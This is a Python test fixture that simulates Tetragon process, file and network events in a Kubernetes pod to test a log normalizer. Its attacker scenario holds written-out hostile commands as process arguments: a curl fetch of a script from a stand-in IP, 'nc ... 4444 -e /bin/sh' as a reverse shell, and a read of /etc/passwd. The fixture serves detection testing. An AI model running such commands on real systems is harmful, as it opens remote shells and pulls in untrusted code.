"""A small world of processes that emits Tetragon JSON export lines (shared by the ancestry and tree tests).

Events have the real export shape (snake_case keys, base64 exec_ids of
``node:ktime:pid``, ``process`` + ``parent`` objects, optional ``ancestors``,
uint64 values as strings), so tests go through the real normalizer.
"""

from __future__ import annotations

import base64
import datetime as dt
import json
from dataclasses import dataclass, field

T0 = dt.datetime(2024, 5, 1, 10, 0, 0)


def make_exec_id(node: str, ktime: int, pid: int) -> str:
    return base64.b64encode(f"{node}:{ktime}:{pid}".encode()).decode()


def ts(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "000Z"


@dataclass
class Pod:
    namespace: str
    name: str
    container: str
    container_start: dt.datetime
    image: str = "docker.io/library/busybox:1.36"
    container_id: str = "containerd://3f2b7c1d9e8a"
    workload: str | None = None

    def as_json(self, container_pid: int | None) -> dict:
        c: dict = {
            "id": self.container_id,
            "name": self.container,
            "image": {"id": self.image + "@sha256:0f1e", "name": self.image},
            "start_time": self.container_start.strftime("%Y-%m-%dT%H:%M:%SZ"),
        }
        if container_pid is not None:
            c["pid"] = container_pid
        out = {
            "namespace": self.namespace,
            "name": self.name,
            "container": c,
            "pod_labels": {"app": self.workload or self.name},
        }
        if self.workload:
            out["workload"] = self.workload
            out["workload_kind"] = "Deployment"
        return out


@dataclass
class Proc:
    node: str
    pid: int
    binary: str
    arguments: str
    start: dt.datetime
    parent: Proc | None
    pod: Pod | None = None
    container_pid: int | None = None
    in_init_tree: bool | None = None
    ktime: int = 0
    exec_id: str = ""
    children: list[Proc] = field(default_factory=list)

    def as_json(self) -> dict:
        out: dict = {
            "exec_id": self.exec_id,
            "pid": self.pid,
            "uid": 0,
            "cwd": "/",
            "binary": self.binary,
            "arguments": self.arguments,
            "flags": "execve clone",
            "start_time": ts(self.start),
            "auid": 4294967295,
            "tid": self.pid,
        }
        if self.pod is not None:
            out["pod"] = self.pod.as_json(self.container_pid)
            out["docker"] = self.pod.container_id.split("//")[-1][:31]
        if self.parent is not None:
            out["parent_exec_id"] = self.parent.exec_id
        if self.in_init_tree is not None:
            out["in_init_tree"] = self.in_init_tree
        return out

    def ancestors(self) -> list[Proc]:
        """Above the parent, nearest first (Tetragon's ``ancestors`` order)."""
        out = []
        p = self.parent.parent if self.parent else None
        while p is not None:
            out.append(p)
            p = p.parent
        return out


class World:
    """Processes on one or more nodes; each method returns one JSON line."""

    def __init__(self, node: str = "node-a", t0: dt.datetime = T0) -> None:
        self.node = node
        self.t0 = t0
        self._ktime = 1_000_000_000
        self.procs: list[Proc] = []

    def at(self, seconds: float) -> dt.datetime:
        return self.t0 + dt.timedelta(seconds=seconds)

    def proc(
        self,
        binary: str,
        arguments: str = "",
        parent: Proc | None = None,
        pid: int | None = None,
        at: float = 0.0,
        pod: Pod | None = None,
        container_pid: int | None = None,
        in_init_tree: bool | None = None,
        node: str | None = None,
    ) -> Proc:
        self._ktime += 1_000_003
        node = node or (parent.node if parent else self.node)
        pid = pid if pid is not None else 1000 + len(self.procs)
        p = Proc(node, pid, binary, arguments, self.at(at), parent, pod, container_pid, in_init_tree, self._ktime)
        p.exec_id = make_exec_id(node, p.ktime, pid)
        if parent is not None:
            parent.children.append(p)
        self.procs.append(p)
        return p

    def _line(self, kind: str, body: dict, p: Proc, at: dt.datetime) -> str:
        return json.dumps({kind: body, "node_name": p.node, "time": ts(at)}, separators=(",", ":"))

    def _base(self, p: Proc, ancestors: bool) -> dict:
        body: dict = {"process": p.as_json()}
        body["parent"] = p.parent.as_json() if p.parent is not None else {}
        if ancestors and p.ancestors():
            body["ancestors"] = [a.as_json() for a in p.ancestors()]
        return body

    def exec(self, p: Proc, ancestors: bool = False) -> str:
        return self._line("process_exec", self._base(p, ancestors), p, p.start)

    def exit(
        self, p: Proc, after: float = 0.5, status: int | None = None, signal: str | None = None, ancestors: bool = False
    ) -> str:
        body = self._base(p, ancestors)
        if status:
            body["status"] = status
        if signal:
            body["signal"] = signal
        body["time"] = ts(p.start + dt.timedelta(seconds=after))
        return self._line("process_exit", body, p, p.start + dt.timedelta(seconds=after))

    def file(self, p: Proc, path: str, write: bool = False, after: float = 0.1, ancestors: bool = False) -> str:
        body = self._base(p, ancestors)
        body.update(
            {
                "function_name": "security_file_permission",
                "args": [{"file_arg": {"path": path, "permission": "-rw-r--r--"}}, {"int_arg": 2 if write else 4}],
                "return": {"int_arg": 0},
                "action": "KPROBE_ACTION_POST",
                "policy_name": "file-monitoring",
                "return_action": "KPROBE_ACTION_POST",
            }
        )
        return self._line("process_kprobe", body, p, p.start + dt.timedelta(seconds=after))

    def connect(self, p: Proc, daddr: str, dport: int, after: float = 0.2, ancestors: bool = False) -> str:
        body = self._base(p, ancestors)
        body.update(
            {
                "function_name": "tcp_connect",
                "args": [
                    {
                        "sock_arg": {
                            "family": "AF_INET",
                            "type": "SOCK_STREAM",
                            "protocol": "IPPROTO_TCP",
                            "saddr": "10.244.0.12",
                            "daddr": daddr,
                            "sport": 40312,
                            "dport": dport,
                            "cookie": "18446",
                            "state": "TCP_SYN_SENT",
                        }
                    }
                ],
                "action": "KPROBE_ACTION_POST",
                "policy_name": "connect",
            }
        )
        return self._line("process_kprobe", body, p, p.start + dt.timedelta(seconds=after))


def host_and_pod(world: World, late_shell_after: float = 400.0) -> dict[str, Proc]:
    """init -> containerd -> shim -> crawler entrypoint (in a pod), and a kubectl-exec bash long after.

    The bash runs ``id``, ``cat /etc/passwd``, ``curl`` and ``nc``, like the tutorial's attacker.
    """
    pod = Pod(
        "tenant-jobs",
        "crawler-7d9f8b6c5-x2x4z",
        "crawler",
        world.at(0).replace(microsecond=0),
        workload="crawler",
        image="quay.io/cilium/crawler:0.3",
    )
    init = world.proc("/sbin/init", "", pid=1, at=-5000)
    containerd = world.proc("/usr/bin/containerd", "", parent=init, pid=610, at=-4000)
    shim = world.proc(
        "/usr/bin/containerd-shim-runc-v2", "-namespace k8s.io -id 3f2b7c1d9e8a", parent=containerd, pid=7001, at=-1
    )
    crawler = world.proc(
        "/usr/bin/node", "/app/crawler.js", parent=shim, pid=7010, at=0.2, pod=pod, container_pid=1, in_init_tree=True
    )
    worker = world.proc(
        "/bin/sh", "-c /app/fetch.sh", parent=crawler, pid=7020, at=30, pod=pod, container_pid=7, in_init_tree=True
    )
    fetch = world.proc(
        "/usr/bin/curl",
        "-s https://crawl.example.org/",
        parent=worker,
        pid=7021,
        at=30.1,
        pod=pod,
        container_pid=8,
        in_init_tree=True,
    )
    runc = world.proc(
        "/usr/bin/runc", "--root /run/containerd/runc/k8s.io exec", parent=shim, pid=7100, at=late_shell_after - 0.2
    )
    bash = world.proc(
        "/bin/bash", "", parent=runc, pid=7101, at=late_shell_after, pod=pod, container_pid=31, in_init_tree=False
    )
    idp = world.proc(
        "/usr/bin/id", "", parent=bash, pid=7102, at=late_shell_after + 5, pod=pod, container_pid=32, in_init_tree=False
    )
    cat = world.proc(
        "/bin/cat",
        "/etc/passwd",
        parent=bash,
        pid=7103,
        at=late_shell_after + 10,
        pod=pod,
        container_pid=33,
        in_init_tree=False,
    )
    curl = world.proc(
        "/usr/bin/curl",
        "-s http://203.0.113.7/x.sh",
        parent=bash,
        pid=7104,
        at=late_shell_after + 20,
        pod=pod,
        container_pid=34,
        in_init_tree=False,
    )
    nc = world.proc(
        "/usr/bin/nc",
        "203.0.113.7 4444 -e /bin/sh",
        parent=bash,
        pid=7105,
        at=late_shell_after + 30,
        pod=pod,
        container_pid=35,
        in_init_tree=False,
    )
    return {
        "init": init,
        "containerd": containerd,
        "shim": shim,
        "crawler": crawler,
        "worker": worker,
        "fetch": fetch,
        "runc": runc,
        "bash": bash,
        "id": idp,
        "cat": cat,
        "curl": curl,
        "nc": nc,
        "pod": pod,
    }


def scenario_lines(world: World, procs: dict[str, Proc], repeats: int = 3) -> list[str]:
    """The story as Tetragon would export it (time order), with a few repeated identical fetches."""
    p = procs
    lines = [
        world.exec(p["shim"]),
        world.exec(p["crawler"]),
        world.exec(p["worker"]),
        world.exec(p["fetch"]),
        world.connect(p["fetch"], "198.51.100.20", 443),
        world.exit(p["fetch"], 0.4),
        world.exit(p["worker"], 0.6),
    ]
    for i in range(repeats):
        w = world.proc(
            "/bin/sh",
            "-c /app/fetch.sh",
            parent=p["crawler"],
            pid=7200 + 2 * i,
            at=60 + 60 * i,
            pod=p["pod"],
            container_pid=40 + 2 * i,
            in_init_tree=True,
        )
        f = world.proc(
            "/usr/bin/curl",
            "-s https://crawl.example.org/",
            parent=w,
            pid=7201 + 2 * i,
            at=60.1 + 60 * i,
            pod=p["pod"],
            container_pid=41 + 2 * i,
            in_init_tree=True,
        )
        lines += [
            world.exec(w),
            world.exec(f),
            world.connect(f, "198.51.100.20", 443),
            world.exit(f, 0.4),
            world.exit(w, 0.6),
        ]
    lines += [
        world.exec(p["runc"]),
        world.exec(p["bash"]),
        world.exec(p["id"]),
        world.exit(p["id"], 0.01),
        world.exec(p["cat"]),
        world.file(p["cat"], "/etc/passwd"),
        world.exit(p["cat"], 0.02),
        world.exec(p["curl"]),
        world.connect(p["curl"], "203.0.113.7", 80),
        world.exit(p["curl"], 1.0),
        world.exec(p["nc"]),
        world.connect(p["nc"], "203.0.113.7", 4444),
        world.exit(p["nc"], 5.0, status=1),
    ]
    return lines


def test_exec_id_is_tetragon_format() -> None:
    assert (
        base64.b64decode(make_exec_id("kind-control-plane", 11428615636901, 51583))
        == b"kind-control-plane:11428615636901:51583"
    )


def test_world_lines_normalize_without_rejects() -> None:
    from tetrapipe.transforms.normalize import normalize_lines

    w = World()
    lines = scenario_lines(w, host_and_pod(w))
    norm = normalize_lines(lines)
    assert norm.rejects.num_rows == 0 and norm.events.num_rows == len(lines)
    row = [r for r in norm.events.to_pylist() if r["kind"] == "process_kprobe"]
    assert {r["function_name"] for r in row} == {"tcp_connect", "security_file_permission"}
    assert any(r["daddr"] == "203.0.113.7" and r["dport"] == 4444 for r in row)
    assert any(r["file_path"] == "/etc/passwd" and r["file_access"] == "read" for r in row)
